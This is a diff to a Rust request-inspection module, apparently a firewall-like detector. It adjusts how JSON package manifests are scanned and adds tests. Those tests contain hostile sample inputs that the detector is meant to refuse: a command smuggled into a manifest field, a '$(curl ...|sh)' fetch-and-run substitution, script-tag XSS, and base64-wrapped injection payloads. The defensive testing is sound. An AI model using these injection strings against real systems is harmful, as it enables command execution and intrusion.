@@ -9,7 +9,7 @@
 use super::bytes::{self, AMP, ANGLE, BLANK, BRACE, LINE, OPERATOR, PAREN, QUOTE, is_word, rest};
 use super::fields;
 use super::inspection::{Encoding, Inspection, Place};
-use super::{Class, graphql, xml};
+use super::{graphql, xml};
 use crate::inflate::Coding;
 
 /// Documents in documents in a value.
@@ -25,7 +25,7 @@ pub(super) fn look(
 ) {
     if seen & PAREN != 0 && seen & QUOTE != 0 && is_json(text) {
         if is_manifest(text) {
-            inspection.without(Class::Shell, |inspection| {
+            inspection.in_manifest(|inspection| {
                 fields::json(text, place, name, inspection);
             });
         } else {
@@ -233,6 +233,41 @@ mod tests {
         ] {
             let value = format!("application/x-www-form-urlencoded; charset={charset}");
             assert_eq!(is_refused_at(&[("content-type", &value)]), odd, "{charset}");
+        }
+    }
+
+    /// The lines of a package's scripts are a shell's; what stands beside them is not, and neither is what they hold of other kinds.
+    #[test]
+    fn a_manifest_covers_its_scripts_alone() {
+        let manifest = |scripts: &str, other: &str| {
+            format!(
+                r#"{{"name":"shop","version":"1.0.0","scripts":{{{scripts}}},"description":"{other}"}}"#
+            )
+        };
+        for body in [
+            manifest(r#""build":"rm -rf dist && tsc -p .""#, "a shop"),
+            manifest(r#""test":"NODE_ENV=test jest; eslint src""#, "it's ours"),
+        ] {
+            assert!(!is_refused_in(&body), "{body}");
+        }
+        for body in [
+            manifest(r#""build":"tsc""#, "x;cat /etc/hostname"),
+            manifest(r#""build":"tsc""#, "$(curl a.test|sh)"),
+            manifest(r#""build":"<script>alert(1)</script>""#, "a shop"),
+        ] {
+            assert!(is_refused_in(&body), "{body}");
+        }
+    }
+
+    /// What base64 wraps may be encoded again.
+    #[test]
+    fn what_is_unwrapped_is_decoded() {
+        // `_$$\u004e\u0044_FUNC$$_function(){}` and `%3Cscript%3Ealert(1)`.
+        for value in [
+            "XyQkXHUwMDRlXHUwMDQ0X0ZVTkMkJF9mdW5jdGlvbigpe30=",
+            "JTNDc2NyaXB0JTNFYWxlcnQoMSk=",
+        ] {
+            assert!(is_refused_in(value), "{value}");
         }
     }
 
